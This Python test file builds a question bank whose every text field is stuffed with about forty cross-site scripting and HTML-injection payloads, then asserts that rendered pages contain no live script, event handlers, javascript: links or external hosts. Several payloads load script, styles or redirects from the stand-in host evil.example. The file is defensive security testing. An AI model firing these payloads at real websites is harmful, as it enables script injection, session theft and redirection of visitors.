"""A bank in which every text is an attack, and what a page must look like that shows it."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import yaml

from tests.cast import TEST_BANK
from tests.web.pages import Page

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=&#97;lert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=width:expression(alert(1))>",
    "<form action=//evil.example><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<x hx-get=/settings/ hx-trigger=load>",
    "<div id=item></div><div id=verdict></div>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select></option><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "[x](javascript:alert(1)) ![x](x' onerror='alert(1))",
]
ALL = " | ".join(PAYLOADS)
SHORT = [payload for payload in PAYLOADS if len(payload) <= 60]


def attack(value: Any) -> Any:
    """The same entry with every text of its own turned into an attack."""
    if isinstance(value, list):
        return [attack(inner) for inner in value]
    if not isinstance(value, dict):
        return value
    texts = ("stem", "ask", "text", "rationale", "notes_say", "today", "title")
    return {
        name: f"{inner} {ALL}" if name in texts and isinstance(inner, str) else attack(inner)
        for name, inner in value.items()
    }


def write_bank(folder: Path) -> Path:
    """The test bank as an attacker would write it."""
    (folder / "items").mkdir()
    (folder / "notes").mkdir()
    for path in (TEST_BANK / "items").glob("*.yaml"):
        items = attack(yaml.safe_load(path.read_text()))
        for item in items:
            if "notes_say" in item:
                item["today"] = f"{item['today']} {ALL}"
        (folder / "items" / path.name).write_text(yaml.safe_dump(items, allow_unicode=True))
    tags = yaml.safe_load((TEST_BANK / "tags.yaml").read_text())
    tags += [{"slug": f"t{number}", "name": payload, "description": payload} for number, payload in enumerate(SHORT)]
    (folder / "tags.yaml").write_text(yaml.safe_dump(tags, allow_unicode=True))
    exam = yaml.safe_load((TEST_BANK / "exam.yaml").read_text())
    exam["title"], exam["pass_note"] = "Tea " + PAYLOADS[0], ALL
    for part in (*exam["forms"], *exam["domains"], *(task for domain in exam["domains"] for task in domain["tasks"])):
        part["title"] += f" {ALL}"
    (folder / "exam.yaml").write_text(yaml.safe_dump(exam, allow_unicode=True))
    (folder / "facts.yaml").write_text((TEST_BANK / "facts.yaml").read_text())
    note = (TEST_BANK / "notes" / "brewing.md").read_text()
    lines = "\n\n".join(PAYLOADS)
    cells = "\n".join(f"| {payload.replace('|', '')} | x |" for payload in PAYLOADS)
    note = note.replace("green leaves do not.", f"green leaves do not.\n\n{lines}")
    headings = "\n\n".join(f"### {payload}\n\nText." for payload in SHORT)
    (folder / "notes" / "brewing.md").write_text(f"{note}{cells}\n\n## More\n\n{headings}\n")
    return folder


FORBIDDEN = {"iframe", "object", "embed", "base", "style", "math", "video", "audio", "source", "animate", "x", "applet"}


def harmless(page: Page) -> Page:
    """The page, in which no text became anything but text."""
    where = page.path
    for element in page.tree:
        assert element.tag not in FORBIDDEN, (where, element.tag)
        for name, value in element.attributes.items():
            assert not name.startswith("on"), (where, element.tag, name)
            assert name != "style", (where, element.tag)
            if name in ("href", "src", "action", "data", "xlink:href", "formaction", "hx-get", "hx-post", "srcdoc"):
                assert not re.match(r"[\s\x00-\x1f]*(javascript|vbscript|data):", value, re.IGNORECASE), (where, value)
                assert not re.match(r"\s*(https?:)?[/\\]{2}", value), (where, value)
        if element.tag == "script" and element.attributes.get("type") != "application/json":
            assert element.attributes.get("src", "").startswith("/static/"), where
            assert element.text == "", where
        if element.tag == "meta":
            assert "http-equiv" not in element.attributes, where
    ids = [element.attributes["id"] for element in page.tree if "id" in element.attributes]
    assert [name for name in ("item", "verdict", "main") if ids.count(name) > 1] == [], where
    return page


def shows(page: Page, *texts: str) -> None:
    """Every attack stands on the page as the text that it is."""
    for text in texts:
        assert re.sub(r"\s+", " ", text).strip() in page.text, (page.path, text)
